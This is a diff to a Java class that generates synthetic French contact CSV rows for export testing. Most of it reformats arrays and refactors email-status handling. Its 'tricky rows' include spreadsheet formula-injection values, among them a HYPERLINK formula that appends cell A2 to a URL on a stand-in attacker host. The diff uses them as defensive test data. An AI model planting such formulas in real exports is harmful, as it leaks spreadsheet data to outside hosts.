@@ -28,10 +28,11 @@ public final class FrenchContacts {
             + "custom.loyalty_points,custom.birthday,custom.notes";
 
     private static final String[] FIRST_NAMES = {
-        "Hélène", "Zoë", "Éloïse", "François", "Jérôme", "Gaëlle", "Anaïs", "Benoît", "Céline",
-        "Loïc", "Maëlys", "Noël", "Chloé", "Léa", "Théo", "Inès", "Raphaël", "Mathéo", "Agnès",
-        "Jean", "Marie", "Camille", "Lucas", "Emma", "Hugo", "Manon", "Louis", "Clémence",
-        "Ophélie", "Aurélien", "Sébastien", "Amélie", "Joël", "Rémi", "Cécile", "Frédéric"};
+        "Hélène", "Zoë", "Éloïse", "François", "Jérôme", "Gaëlle", "Anaïs",
+        "Benoît", "Céline", "Loïc", "Maëlys", "Noël", "Chloé", "Léa", "Théo",
+        "Inès", "Raphaël", "Mathéo", "Agnès", "Jean", "Marie", "Camille", "Lucas",
+        "Emma", "Hugo", "Manon", "Louis", "Clémence", "Ophélie", "Aurélien",
+        "Sébastien", "Amélie", "Joël", "Rémi", "Cécile", "Frédéric"};
     private static final String[] LAST_NAMES = {
         "Lefèvre", "Martin", "Bernard", "Dubois", "Durand", "Lefebvre", "Moreau", "Girard",
         "Gauthier", "Rousseau", "Fontaine", "Chevalier", "Bénard", "Gérard", "Côté", "Leroy",
@@ -59,7 +60,8 @@ public final class FrenchContacts {
 
     /** Values from real export bug reports: formulas, separators, quotes, line breaks. */
     private static final String[] TRICKY_ROWS = {
-        "paul.durand@example.org,\"=HYPERLINK(\"\"http://attacker.example/?x=\"\"&A2,\"\"Click\"\")\","
+        "paul.durand@example.org,"
+            + "\"=HYPERLINK(\"\"http://attacker.example/?x=\"\"&A2,\"\"Click\"\")\","
             + "Durand,ACME,true,valid,+33612345678,true,valid,,,3,,,false,Lyon,01000,-20,,",
         "ines.roux@example.org,@SUM(1+1),Roux,-2+3,true,valid,+353871234567,false,valid,,,2,,,"
             + "false,Dublin,D02 X285,15,,",
@@ -110,11 +112,11 @@ public final class FrenchContacts {
         field(row, first).append(',');
         field(row, last).append(',');
         field(row, pick(COMPANIES)).append(',');
-        appendEmailState(row, hasEmail, email);
+        String emailStatus = appendEmailState(row, hasEmail);
         appendMobileState(row, hasMobile);
         row.append(created).append(',').append(updated).append(',');
         row.append(random.nextInt(6)).append(',');
-        appendBounce(row, hasEmail, email);
+        appendBounce(row, emailStatus, email);
         row.append(random.nextInt(100) < 3).append(',');
         field(row, CITIES[city]).append(',');
         row.append(POSTCODES[city]).append(',');
@@ -123,23 +125,25 @@ public final class FrenchContacts {
         row.append(random.nextInt(3) == 0 ? ""
                 : String.format("%d-%02d-%02d", 1950 + random.nextInt(55),
                         1 + random.nextInt(12), 1 + random.nextInt(28))).append(',');
-        field(row, random.nextInt(50) == 0 ? "Client fidèle, préfère être appelé le matin" : "");
+        boolean noted = random.nextInt(50) == 0;
+        field(row, noted ? "Client fidèle, préfère être appelé le matin" : "");
     }
 
-    // email_optin, email_status, then a bounce is added by appendBounce for bounced contacts.
-    private String emailStatus;
-
-    private void appendEmailState(StringBuilder row, boolean hasEmail, String email) {
+    /** Appends email_optin and email_status; returns the status ("" without an email). */
+    private String appendEmailState(StringBuilder row, boolean hasEmail) {
         if (!hasEmail) {
-            emailStatus = "";
             row.append(",,");
-            return;
+            return "";
         }
         int dice = random.nextInt(100);
-        emailStatus = dice < 78 ? "valid" : dice < 86 ? "unsubscribed" : dice < 92 ? "bounced"
-                : dice < 93 ? "complained" : "unconfirmed";
+        String emailStatus = dice < 78 ? "valid"
+                : dice < 86 ? "unsubscribed"
+                : dice < 92 ? "bounced"
+                : dice < 93 ? "complained"
+                : "unconfirmed";
         boolean optin = "valid".equals(emailStatus) || "unconfirmed".equals(emailStatus);
         row.append(optin).append(',').append(emailStatus).append(',');
+        return emailStatus;
     }
 
     private void appendMobileState(StringBuilder row, boolean hasMobile) {
@@ -155,11 +159,11 @@ public final class FrenchContacts {
                 .append(status).append(',');
     }
 
-    private void appendBounce(StringBuilder row, boolean hasEmail, String email) {
+    private void appendBounce(StringBuilder row, String emailStatus, String email) {
         String[] bounce = null;
         if ("bounced".equals(emailStatus)) {
             bounce = HARD_BOUNCES[random.nextInt(HARD_BOUNCES.length)];
-        } else if (hasEmail && random.nextInt(100) < 4) {
+        } else if (!emailStatus.isEmpty() && random.nextInt(100) < 4) {
             bounce = SOFT_BOUNCES[random.nextInt(SOFT_BOUNCES.length)];
         }
         if (bounce == null) {
